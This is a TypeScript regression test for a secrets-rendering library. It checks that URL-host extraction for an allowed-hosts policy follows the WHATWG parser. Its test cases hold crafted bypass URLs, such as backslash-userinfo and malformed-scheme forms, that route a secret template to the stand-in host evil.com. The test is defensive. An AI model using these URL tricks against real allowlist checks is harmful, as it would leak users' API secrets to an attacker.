/**
 * Regression: the host a secret is sent to (for `allowedHosts`) was read with a regular
 * expression that disagrees with the WHATWG URL parser every HTTP client uses. In
 * `https://evil.com\@api.stripe.com/…` the regex saw userinfo `evil.com\` and host
 * api.stripe.com, while fetch sends the request to evil.com (`\` is a path separator in special
 * schemes) — a policy bypass; `https:\\evil.com/…` and `https:/evil.com/…` had no host at all,
 * so the host policy was skipped. Hosts now come from the WHATWG parser.
 */
import { describe, expect, it } from 'vitest';
import { render } from '../../src/render/index.js';
import { hostsOf as requestHosts, MemorySource } from './helpers.js';

async function hostsOf(def: Record<string, unknown>): Promise<Record<string, string[]>> {
  const source = new MemorySource({ k: 'sk_live_abcdef' });
  await render(def, { resolver: source });
  return requestHosts(source.requests[0]);
}

describe('the host a secret is sent to', () => {
  it.each([
    ['https://evil.com\\@api.stripe.com/v1?key={{ secrets.k }}', 'evil.com'],
    ['https:\\\\evil.com/v1?key={{ secrets.k }}', 'evil.com'],
    ['https:/evil.com/v1?key={{ secrets.k }}', 'evil.com'],
    ['https://EVIL.com\\.api.stripe.com/?key={{ secrets.k }}', 'evil.com'],
    ['https://api.stripe.com/v1?key={{ secrets.k }}', 'api.stripe.com'],
    ['postgresql://app:${secrets.k}@db.internal:5432/app', 'db.internal'],
  ])('in the URL string %s is %s', async (url, host) => {
    expect(await hostsOf({ name: 't', url })).toEqual({ k: [host] });
  });

  it('in a sibling url field', async () => {
    expect(await hostsOf({ name: 't', url: 'https://evil.com\\@api.stripe.com/v1', headers: { auth: 'Bearer $secrets.k' } })).toEqual({ k: ['evil.com'] });
  });

  it('a host built from a value is no static host (recorded as unknown, so host limits fail closed)', async () => {
    expect(await hostsOf({ name: 't', url: 'https://{{ secrets.k }}.example.com/' })).toEqual({ k: [''] });
  });

  it('a header with no url field anywhere goes to an unknown host', async () => {
    expect(await hostsOf({ name: 't', headers: { auth: 'Bearer $secrets.k' } })).toEqual({ k: [''] });
  });
});
